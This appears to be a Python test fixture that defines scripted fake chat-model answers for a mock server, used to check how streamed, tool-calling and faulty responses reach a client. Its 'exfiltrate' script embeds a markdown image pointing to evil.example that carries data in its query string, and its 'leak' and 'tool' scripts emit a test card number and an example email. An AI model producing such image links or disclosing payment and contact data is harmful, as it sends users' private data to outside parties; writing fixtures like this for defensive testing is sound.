"""What each scripted model says.

It exists apart from the server so that a test can state the answer that must, or must
not, reach a client without repeating it.
"""

import re
from collections.abc import Mapping, Sequence
from dataclasses import dataclass
from enum import StrEnum
from typing import Final

CARD_NUMBER: Final = "4111 1111 1111 1111"
"""The test number of a card scheme: valid by its checksum, nobody's card."""

EMAIL_ADDRESS: Final = "jane.doe@example.com"
"""An address under a domain that is reserved for examples (RFC 2606)."""

_PIECE = re.compile(r"\s*\S{1,4}|\s+$")


class Fault(StrEnum):
    """How a streamed answer goes wrong half-way."""

    CUT = "cut"
    """The connection ends without a terminal event."""
    GARBLED = "garbled"
    """An event arrives whose data is no JSON."""


@dataclass(frozen=True, slots=True)
class ToolCall:
    """A call of a function that the model asks for."""

    name: str
    arguments: str
    """JSON text."""


@dataclass(frozen=True, slots=True)
class Script:
    """One model's behaviour."""

    text: str | None
    """The answer; None gives back the last message of the user, to the character."""
    reasoning: str = ""
    """What it thinks before it answers."""
    tool_call: ToolCall | None = None
    """Asked for in place of a text."""
    delay: float = 0.0
    """Seconds between two pieces of a streamed answer, and before a whole one."""
    fault: Fault | None = None
    """What goes wrong."""


SCRIPTS: Final[Mapping[str, Script]] = {
    "demo": Script("Hello! I am a support bot made of a few lines of script. How can I help?"),
    "echo": Script(None),
    "leak": Script(
        f"The card on file is {CARD_NUMBER} and receipts go to {EMAIL_ADDRESS}. Anything else?"
    ),
    "exfiltrate": Script(
        "Your report is ready. ![chart](https://evil.example/c.png?said=all+of+it) Anything else?"
    ),
    "long": Script(" ".join(f"word{number}" for number in range(1000))),
    "slow": Script("This answer takes its time, piece by piece, until the end.", delay=0.2),
    "reasoning": Script(
        "All is well with the order.", reasoning=f"The customer pays with {CARD_NUMBER}."
    ),
    "tool": Script("", tool_call=ToolCall("charge", f'{{"card": "{CARD_NUMBER}", "amount": 12}}')),
    "cut": Script("This answer ends before its time.", fault=Fault.CUT),
    "garbled": Script("This answer is broken in its middle.", fault=Fault.GARBLED),
}
"""Every model there is, by name."""


def pieces(text: str) -> list[str]:
    """Cut a text into token-like pieces of at most four letters; joined, they are the text."""
    return _PIECE.findall(text)


def answer(script: Script, user: str) -> str:
    """The text of an answer to the user's last message."""
    return user if script.text is None else script.text


def prompt(messages: Sequence[Mapping[str, object]]) -> tuple[str, int]:
    """The last message of the user, and how many pieces all messages have together."""
    texts = [(message.get("role"), _content(message.get("content"))) for message in messages]
    users = [text for role, text in texts if role == "user"]
    return (users[-1] if users else "", sum(len(pieces(text)) for _, text in texts))


def _content(content: object) -> str:
    if isinstance(content, str):
        return content
    if isinstance(content, list):
        return "".join(
            str(part["text"]) for part in content if isinstance(part, dict) and "text" in part
        )
    return ""
